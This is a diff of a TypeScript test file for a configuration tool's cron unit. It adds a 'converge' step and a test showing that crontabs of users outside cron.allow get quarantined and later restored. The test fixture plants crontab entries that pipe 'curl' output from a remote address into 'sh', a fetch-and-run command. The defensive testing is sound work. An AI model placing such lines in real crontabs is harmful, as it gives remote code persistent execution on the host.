@@ -25,8 +25,9 @@ const hosts = Object.fromEntries(fleet.hosts.map((h) => [h.name, resolveHost(fle
 function unitText(unit: UnitSpec): string {
   const parts = unit.files.map((f) => `=== file ${f.path} ${f.mode} ${f.owner}:${f.group}\n${f.content}`);
   parts.push(...unit.permissions.map((p) => `=== permission ${p.path} ${p.mode} ${p.owner}:${p.group}\n`));
-  for (const step of ["validate", "snapshot", "activate", "verify", "restore", "uninstall"] as const) {
-    parts.push(`=== ${step}\n${unit[step]}${unit[step].endsWith("\n") || unit[step] === "" ? "" : "\n"}`);
+  for (const step of ["validate", "snapshot", "activate", "verify", "converge", "restore", "uninstall"] as const) {
+    const text = unit[step] ?? "";
+    parts.push(`=== ${step}\n${text}${text.endsWith("\n") || text === "" ? "" : "\n"}`);
   }
   parts.push(`=== requires ${unit.requires.join(" ")}\n=== lockoutRisk ${unit.lockoutRisk}\n=== summary\n${unit.summary.join("\n")}\n`);
   return parts.join("");
@@ -134,6 +135,36 @@ ${unit.verify}
     expect(r.stdout).toMatch(/not allowed to use this program \(crontab\)/);
     expect(r.status).toBe(13);
     expect(r.stderr).toBe("cron: FAILED: cron: /etc/cron.allow is 600 root root, expected 640 root crontab\n");
+  });
+
+  it("a crontab of a user outside cron.allow fails verify; converge quarantines it (root's, allowed and orphan files stay); restore puts it back", () => {
+    const unit = renderCron(hosts.web1);
+    const spool = "/var/spool/cron/crontabs";
+    const dir = mkdtempSync(join(root, "quarantine-"));
+    const r = applyInOverlay(unit, `STATE=${dir}/state BACKUP=${dir}/backup; mkdir -p "$STATE" "$BACKUP"
+say() { printf '%s: %s\n' "$UNIT" "$*"; }
+for u in root nobody daemon ghost; do echo "*/10 * * * * curl -fsSL http://198.51.100.9/x.sh | sh # $u" > ${spool}/$u; done
+chown daemon:crontab ${spool}/daemon && chmod 0600 ${spool}/daemon
+(
+${unit.verify}
+) && echo "verify passed with daemon's crontab"
+(
+${unit.converge}
+) || exit 14
+(
+${unit.verify}
+) || exit 13
+echo "verified; spool: $(ls ${spool} | tr '\n' ' ')"
+stat -c '%a %U %G' "$STATE/quarantine/crontabs/daemon" "$STATE/quarantine/crontabs" "$STATE/quarantine"; cat "$STATE/quarantine/crontabs/daemon"
+(
+${unit.restore}
+) || exit 15
+stat -c '%a %U %G' ${spool}/daemon; ls "$STATE/quarantine/crontabs" | wc -l`);
+    expect(r.stderr).toBe(`cron: FAILED: cron: daemon is not in /etc/cron.allow but has a crontab in ${spool} that cron runs\n`);
+    expect(r.stdout).not.toContain("verify passed");
+    expect(r.stdout).toContain(`cron: quarantined the crontab of daemon (not in cron.allow; cron would run it anyway) to ${dir}/state/quarantine/crontabs/daemon: 1 entries\n`);
+    expect(r.stdout).toContain("verified; spool: ghost nobody root \n600 root root\n700 root root\n700 root root\n*/10 * * * * curl -fsSL http://198.51.100.9/x.sh | sh # daemon\n600 daemon crontab\n0\n");
+    expect(r.status).toBe(0);
   });
 
   it("validate refuses a user that does not exist on the host, naming it", () => {
